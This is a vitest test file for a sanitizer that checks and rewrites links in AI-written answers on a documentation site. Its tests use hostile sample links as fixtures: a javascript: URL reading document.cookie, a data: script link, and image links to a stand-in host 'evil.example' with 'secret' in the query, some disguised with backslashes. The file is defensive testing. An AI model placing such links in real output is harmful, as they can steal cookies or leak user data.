import { describe, expect, it } from 'vitest';
import {
  checkAnswerLinks,
  citedNumbers,
  createLinkWatcher,
  type LinkVerdict,
  withAbsoluteSiteLinks,
} from './answer-links.js';

/** The site's own addresses: /faqs/ and the CLI page are linked with their trailing slash, /deployment without. */
const addresses = [
  '/deployment',
  '/deployment#rollback',
  '/Development%20Resources/shopify-cli/',
  '/faqs/',
  '/faqs/#staging',
];
/** One key per page and section whatever the spelling, as the search index looks links up. */
const keyOf = (url: string) => {
  const { pathname, hash } = new URL(url, 'https://docs.acme.dev');
  return `${pathname.replace(/\/$/, '')}${hash}`;
};
const site = {
  publicOrigin: 'https://docs.acme.dev',
  addressOf: (url: string) => addresses.find((address) => keyOf(address) === keyOf(url)),
};

describe('checkAnswerLinks', () => {
  it('keeps real sections and removes invented ones', () => {
    const checked = checkAnswerLinks(
      'Roll back with [the runbook](/deployment#rollback "Rollback"). See [CLI](/Development%20Resources/shopify-cli/) and not [this](/deploy#rollbacks) or ![diagram](/img/none.png)!',
      site,
    );
    expect(checked.text).toBe(
      'Roll back with [the runbook](/deployment#rollback "Rollback"). See [CLI](/Development%20Resources/shopify-cli/) and not this or [image: diagram]!',
    );
    expect(checked.kept).toEqual(['/deployment#rollback', '/Development%20Resources/shopify-cli/']);
    expect(checked.removed).toEqual(['/deploy#rollbacks', '/img/none.png']);
  });

  it('checks every way of writing a link', () => {
    const checked = checkAnswerLinks(
      [
        "[see [1]](/nope) [p](/nope_(foo)) [q](/nope 't') [r]( /nope ) [s](<dep loyment>) [t](</deployment>)",
        '',
        'Bare https://docs.acme.dev/nope and https://docs.acme.dev/faqs/ and <https://docs.acme.dev/nope2>.',
        '',
        'Reference [x][r] here.',
        '',
        '[r]: /nope "gone"',
        '[ok]: /deployment',
        'end',
      ].join('\n'),
      site,
    );
    expect(checked.text).toBe(
      [
        'see [1] p q r s [t](</deployment>)',
        '',
        'Bare `https://docs.acme.dev/nope` and https://docs.acme.dev/faqs/ and `https://docs.acme.dev/nope2`.',
        '',
        'Reference [x][r] here.',
        '',
        '[ok]: /deployment',
        'end',
      ].join('\n'),
    );
  });

  it('rewrites relative links to the root-relative address it checked', () => {
    const checked = checkAnswerLinks('[c](deployment#rollback) [d](./faqs) [e](nope)', site);
    expect(checked.text).toBe('[c](</deployment#rollback>) [d](</faqs/>) e');
    expect(checked.kept).toEqual(['/deployment#rollback', '/faqs/']);
  });

  it('points a link written in the other spelling at the address the site links, with its anchor and query', () => {
    const checked = checkAnswerLinks(
      [
        'See [staging](/faqs#staging "FAQ"), [rollback](/deployment/#rollback), [tabs](/faqs?tab=npm#staging),',
        'https://docs.acme.dev/faqs#staging, <https://docs.acme.dev/deployment/> and https://docs.acme.dev/faqs/.',
        '',
        'Reference [x][r].',
        '',
        '[r]: /faqs "FAQ"',
      ].join('\n'),
      site,
    );
    expect(checked.text).toBe(
      [
        'See [staging](</faqs/#staging> "FAQ"), [rollback](</deployment#rollback>), [tabs](</faqs/?tab=npm#staging>),',
        '[https://docs.acme.dev/faqs#staging](</faqs/#staging>), [https://docs.acme.dev/deployment/](</deployment>) and https://docs.acme.dev/faqs/.',
        '',
        'Reference [x][r].',
        '',
        '[r]: </faqs/> "FAQ"',
      ].join('\n'),
    );
    expect(checked.kept).toEqual([
      '/faqs/#staging',
      '/deployment#rollback',
      '/faqs/?tab=npm#staging',
      '/deployment',
      '/faqs/',
    ]);
    expect(checked.removed).toEqual([]);
  });

  it('removes links no renderer should follow: scripts, data and images from elsewhere, wherever they are written', () => {
    const answer = [
      'Click [here](javascript:alert(document.cookie)) or [this](data:text/html,<script>x</script>) or <vbscript:run>.',
      '![pixel](https://evil.example/p.png?q=secret) and [ref][r] stay readable; [web](//evil.example/login) stays.',
      '',
      '[r]: javascript:void(0)',
      '',
      '`[x](javascript:kept-in-code)`',
    ].join('\n');
    const checked = checkAnswerLinks(answer, site);
    expect(checked.text).toBe(
      [
        'Click here or this or `vbscript:run`.',
        '[image: pixel] and [ref][r] stay readable; [web](//evil.example/login) stays.',
        '',
        '',
        '`[x](javascript:kept-in-code)`',
      ].join('\n'),
    );
    expect(checked.removed).toEqual([]);
  });

  it("takes an image whose address a browser reads as another host's as from elsewhere", () => {
    const answer = '![a](/\\evil.example/faqs/?d=secret) ![b](\\\\evil.example/faqs/) ![c](/faqs/)';
    const checked = checkAnswerLinks(answer, site);
    expect(checked.text).toBe('[image: a] [image: b] ![c](/faqs/)');
  });

  it('leaves code, web and e-mail links to other sites alone', () => {
    const answer = [
      'Run `[x](/nope)` or see [MDN](https://developer.mozilla.org/x) and [mail](mailto:dev@acme.dev).',
      '',
      '```md',
      '[inside](/nope)',
      '```',
    ].join('\n');
    expect(checkAnswerLinks(answer, site)).toEqual({ text: answer, kept: [], removed: [] });
  });
});

describe('createLinkWatcher', () => {
  /** Feeds the answer in pieces, as a stream would, and returns each verdict with the text length it came at. */
  function watch(answer: string, pieceSize: number) {
    const judge = createLinkWatcher(site);
    const verdicts: Array<LinkVerdict & { at: number }> = [];
    for (let end = pieceSize; end < answer.length + pieceSize; end += pieceSize) {
      const soFar = answer.slice(0, end);
      for (const verdict of judge(soFar)) verdicts.push({ ...verdict, at: Math.min(end, answer.length) });
    }
    return verdicts;
  }

  it.each([1, 3, 7, 1000])('judges each site link once, as soon as it is complete (pieces of %i)', (size) => {
    const answer = 'See [a](/faqs) and [b](/nope#x) then https://docs.acme.dev/deployment next [c](/faqs).';
    const verdicts = watch(answer, size);
    expect(verdicts.map(({ url, href }) => ({ url, href }))).toEqual([
      { url: '/faqs', href: '/faqs/' },
      { url: '/nope#x', href: null },
      { url: 'https://docs.acme.dev/deployment', href: '/deployment' },
    ]);
    // A verdict comes with the piece that closes its link, never later.
    const closed = answer.indexOf('(/faqs)') + '(/faqs)'.length;
    expect(verdicts[0]?.at).toBe(Math.min(Math.ceil(closed / size) * size, answer.length));
  });

  it('waits for a bare address to end before judging it', () => {
    const judge = createLinkWatcher(site);
    expect(judge('Go to https://docs.acme.dev/dep')).toEqual([]);
    expect(judge('Go to https://docs.acme.dev/deployment ')).toEqual([
      { url: 'https://docs.acme.dev/deployment', href: '/deployment' },
    ]);
  });

  it('judges the last link when the answer ends, and never a link inside code', () => {
    const judge = createLinkWatcher(site);
    const answer = 'Intro.\n\n```md\n[in code](/nope)\n```\n\nSee [FAQs](/faqs) and https://docs.acme.dev/nowhere';
    const verdicts: LinkVerdict[] = [];
    for (let end = 1; end <= answer.length; end += 1) verdicts.push(...judge(answer.slice(0, end)));
    verdicts.push(...judge(answer, { final: true }));
    expect(verdicts).toEqual([
      { url: '/faqs', href: '/faqs/' },
      { url: 'https://docs.acme.dev/nowhere', href: null },
    ]);
  });

  it('parses in proportion to the answer, however long its paragraph (it grew with the square of it)', () => {
    let parsed = 0;
    const judge = createLinkWatcher(site, { parsed: (characters) => (parsed += characters) });
    let text = '';
    for (let index = 0; index < 3000; index += 1) {
      const piece = index % 250 === 0 ? '[the runbook](/deployment#rollback) (see above) ' : 'word ';
      judge(text + piece);
      text += piece;
    }
    judge(text, { final: true });
    // About 22 looks of at most 4 KB each, and the final one over the whole paragraph; before: 3,000 of the paragraph.
    expect(parsed).toBeLessThan(10 * text.length);
  });

  it('keeps judging links in later blocks of a long answer', () => {
    const judge = createLinkWatcher(site);
    const paragraphs = Array.from({ length: 300 }, (_, index) => `Paragraph ${index} of the answer.`);
    const answer = `${paragraphs.join('\n\n')}\n\nEnd: [x](/nope).`;
    const verdicts: LinkVerdict[] = [];
    for (let end = 7; end < answer.length + 7; end += 7) verdicts.push(...judge(answer.slice(0, end)));
    expect(verdicts).toEqual([{ url: '/nope', href: null }]);
  });
});

describe('withAbsoluteSiteLinks', () => {
  it('writes root-relative links and images on the origin, and leaves others and code alone', () => {
    const answer = [
      'See [TTL](</firestore-ttl#how-ttl-works> "How") and ![chart](/img/a.png), [MDN](https://developer.mozilla.org/).',
      '',
      '[ref]: /faqs/#staging',
      '',
      '`[code](/nope)` and [proto](//cdn.example/x)',
    ].join('\n');
    expect(withAbsoluteSiteLinks(answer, 'https://docs.acme.dev')).toBe(
      [
        'See [TTL](<https://docs.acme.dev/firestore-ttl#how-ttl-works> "How") and ![chart](<https://docs.acme.dev/img/a.png>), [MDN](https://developer.mozilla.org/).',
        '',
        '[ref]: <https://docs.acme.dev/faqs/#staging>',
        '',
        '`[code](/nope)` and [proto](//cdn.example/x)',
      ].join('\n'),
    );
  });
});

describe('citedNumbers', () => {
  it('reads [n] citations in prose only: not in code, not a link', () => {
    expect(citedNumbers('Use the job [2] and [1]. `arr[3]` and [see [4]](/x)\n\n```\nlist[5]\n```')).toEqual([2, 1]);
  });
});
